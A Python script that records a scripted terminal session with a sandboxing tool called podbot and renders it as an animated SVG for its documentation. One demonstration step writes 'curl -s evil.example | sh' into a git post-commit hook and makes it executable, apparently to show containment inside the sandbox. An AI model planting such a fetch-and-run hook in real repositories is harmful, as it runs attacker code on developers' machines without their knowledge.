"""Records a terminal session with podbot for the documentation, and draws it.

``record`` runs the commands below in a real terminal with the real podbot, and writes what came out of it, with its
times, as an asciicast (version 2) beside the pages. ``draw`` makes an SVG of that recording: one picture for each step,
shown one after the other. A test compares both. So the text in the picture is never typed by
hand::

    scripts/e2e .venv/bin/python scripts/record.py record
    .venv/bin/python scripts/record.py draw

The recording needs root, because it makes the home of a user "ada" and removes it afterwards.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from html import escape
from pathlib import Path
from typing import Any

ROOT = Path(__file__).parents[1]
CAST = ROOT / "docs" / "images" / "session.cast"
DRAWING = CAST.with_suffix(".svg")
COLUMNS, ROWS = 96, 19
HOME = Path("/home/ada")
OUTSIDE, INSIDE = r"\$ $", r"# $"  # the ends of the two prompts
BEGUN = "\x1b]podbot\x07"  # an event of our own: a step begins; terminals ignore it

# Each command, and the prompt that follows it.
STEPS = (
    ("podbot run custom . --name shop -- bash", INSIDE),
    ("ls -A /home /root/.ssh; git log --oneline", INSIDE),
    ("echo 'curl -s evil.example | sh' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit", INSIDE),
    ("exit", OUTSIDE),
    ("podbot ps", OUTSIDE),
)


# --- recording --------------------------------------------------------------------------------


@dataclass
class Tape:
    """What the terminal printed: (seconds since the start, text)."""

    began: float = field(default_factory=time.monotonic)
    events: list[tuple[float, str]] = field(default_factory=list)

    def write(self, text: str) -> None:
        self.events.append((round(time.monotonic() - self.began, 3), text))

    def flush(self) -> None:
        """pexpect calls it."""


def record() -> None:
    """Run the steps and write the recording."""
    if HOME.exists():
        raise SystemExit(f"{HOME} exists; the recording makes it and removes it afterwards")
    with tempfile.TemporaryDirectory(prefix="podbot-record-") as state:
        try:
            _make_project(HOME / "src" / "shop")
            tape = _play(HOME / "src" / "shop", Path(state))
        finally:
            shutil.rmtree(HOME, ignore_errors=True)
    header = {"version": 2, "width": COLUMNS, "height": ROWS, "env": {"TERM": "xterm-256color"}}
    lines = [json.dumps(header), *(json.dumps([at, "o", text]) for at, text in tape.events)]
    CAST.parent.mkdir(exist_ok=True)
    CAST.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _make_project(directory: Path) -> None:
    directory.mkdir(parents=True)
    (directory / "main.py").write_text('print("hello")\n')
    identity = ("-c", "user.name=Ada Lovelace", "-c", "user.email=ada@example.org")
    for words in (("init", "--quiet"), ("add", "."), ("commit", "--quiet", "--message", "Say hello")):
        subprocess.run(["git", *identity, *words], cwd=directory, check=True)


def _play(directory: Path, state: Path) -> Tape:
    import pexpect

    (state / "inputrc").write_text("set enable-bracketed-paste off\n")
    (HOME / ".gitconfig").write_text('[user]\nname = "Ada Lovelace"\nemail = ada@example.org\n')
    environ = {
        **os.environ,
        "HOME": str(HOME),
        "PATH": f"{ROOT / '.venv' / 'bin'}:{os.environ['PATH']}",
        "XDG_STATE_HOME": str(state),
        "INPUTRC": str(state / "inputrc"),
        "PS1": "ada:~/src/shop$ ",
        "TERM": "xterm-256color",
    }
    shell: Any = pexpect.spawn(
        "bash", ["--norc", "--noprofile"], env=environ, cwd=directory, dimensions=(ROWS, COLUMNS), encoding="utf-8"
    )
    shell.delaybeforesend = None
    shell.expect(OUTSIDE, timeout=30)
    tape = Tape()
    tape.write(shell.before + shell.after)
    shell.logfile_read = tape
    for command, prompt in STEPS:
        tape.write(BEGUN)
        shell.send(command)
        shell.expect_exact(command[-8:], timeout=30)
        shell.send("\r")
        shell.expect(prompt, timeout=120)
    shell.close(force=True)
    return tape


# --- drawing ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Run:
    """Characters of one line with the same look. ``column``: where they begin."""

    column: int
    text: str
    colour: str
    bold: bool


Screen = tuple[tuple[Run, ...], ...]

CELL_WIDTH, LINE_HEIGHT, MARGIN, BAR = 8.4, 19, 14, 30
SECONDS = 3.0  # that each picture is shown
FOREGROUND, BACKGROUND = "#d0d4da", "#1b1f27"
COLOURS = {
    "black": "#5c6370",
    "red": "#e06c75",
    "green": "#98c379",
    "brown": "#d19a66",
    "yellow": "#e5c07b",
    "blue": "#61afef",
    "magenta": "#c678dd",
    "cyan": "#56b6c2",
    "white": "#dcdfe4",
}


def screens(events: Iterable[tuple[float, str]], columns: int, rows: int) -> Iterator[Screen]:
    """The terminal's content whenever a step begins, and at the end; without repetitions."""
    import pyte

    screen = pyte.Screen(columns, rows)
    stream = pyte.Stream(screen)
    last: Screen | None = None
    for text in [*(text for _, text in events), BEGUN]:
        if text == BEGUN:
            found = tuple(tuple(_runs(screen.buffer[row], columns)) for row in range(rows))
            if found != last and any(found):
                last = found
                yield found
        else:
            stream.feed(text)


def _runs(line: Any, columns: int) -> Iterator[Run]:
    cells = [line[column] for column in range(columns)]
    looks = [(COLOURS.get(cell.fg, f"#{cell.fg}" if _is_hex(cell.fg) else FOREGROUND), cell.bold) for cell in cells]
    begin = 0
    for column in range(1, columns + 1):
        if column == columns or looks[column] != looks[begin]:
            text = "".join(cell.data for cell in cells[begin:column])
            if text.strip():
                yield Run(begin, text.rstrip(), *looks[begin])
            begin = column


def _is_hex(colour: str) -> bool:
    return bool(re.fullmatch(r"[0-9a-f]{6}", colour))


def svg(pictures: list[Screen], columns: int, rows: int) -> str:
    """A drawing that shows the pictures one after the other; the last one only, where motion is not wanted."""
    width, height = round(columns * CELL_WIDTH + 2 * MARGIN), rows * LINE_HEIGHT + 2 * MARGIN + BAR
    count = len(pictures)
    total = count * SECONDS + SECONDS  # the last one is shown twice as long
    parts = [
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" role="img">',
        "<title>A session with podbot in a terminal</title>",
        "<style>",
        f"text{{font:14px ui-monospace,'DejaVu Sans Mono',Menlo,Consolas,monospace;fill:{FOREGROUND};white-space:pre}}",
        ".b{font-weight:bold}",
        ".p{visibility:hidden}",
    ]
    for number in range(count):
        start, end = number * SECONDS / total * 100, (number + 1) * SECONDS / total * 100
        until = f"{end:.3f}%,100%{{visibility:hidden}}" if number + 1 < count else "100%{visibility:visible}"
        begin = "0%" if number == 0 else f"0%{{visibility:hidden}}{start:.3f}%"
        parts.append(f"@keyframes k{number}{{{begin}{{visibility:visible}}{until}}}")
        parts.append(f".p{number}{{animation:k{number} {total:g}s step-end infinite}}")
    parts.append(f"@media (prefers-reduced-motion:reduce){{.p{{animation:none}}.p{count - 1}{{visibility:visible}}}}")
    parts.append("</style>")
    parts.append(f'<rect width="{width}" height="{height}" rx="8" fill="{BACKGROUND}"/>')
    parts += [
        f'<circle cx="{20 + 20 * n}" cy="18" r="6" fill="{c}"/>'
        for n, c in enumerate(("#e06c75", "#e5c07b", "#98c379"))
    ]
    for number, picture in enumerate(pictures):
        parts.append(f'<g class="p p{number}">')
        parts += [_text(run, row) for row, line in enumerate(picture) for run in line]
        parts.append("</g>")
    return "\n".join([*parts, "</svg>"]) + "\n"


def _text(run: Run, row: int) -> str:
    x, y = MARGIN + run.column * CELL_WIDTH, MARGIN + BAR + (row + 1) * LINE_HEIGHT - 5
    fill = "" if run.colour == FOREGROUND else f' fill="{run.colour}" style="fill:{run.colour}"'
    bold = ' class="b"' if run.bold else ""
    length = f"{len(run.text) * CELL_WIDTH:.1f}"
    return f'<text x="{x:.1f}" y="{y}" textLength="{length}"{bold}{fill} xml:space="preserve">{escape(run.text)}</text>'


def drawn() -> str:
    """The SVG of the recording."""
    header, *lines = CAST.read_text(encoding="utf-8").splitlines()
    size = json.loads(header)
    events = [(at, text) for at, _, text in map(json.loads, lines)]
    return svg(list(screens(events, size["width"], size["height"])), size["width"], size["height"])


def main(words: list[str]) -> int:
    """Record, or draw what was recorded."""
    parser = argparse.ArgumentParser(prog="scripts/record.py", description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("what", choices=("record", "draw"))
    if parser.parse_args(words).what == "record":
        record()
    else:
        DRAWING.write_text(drawn(), encoding="utf-8")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
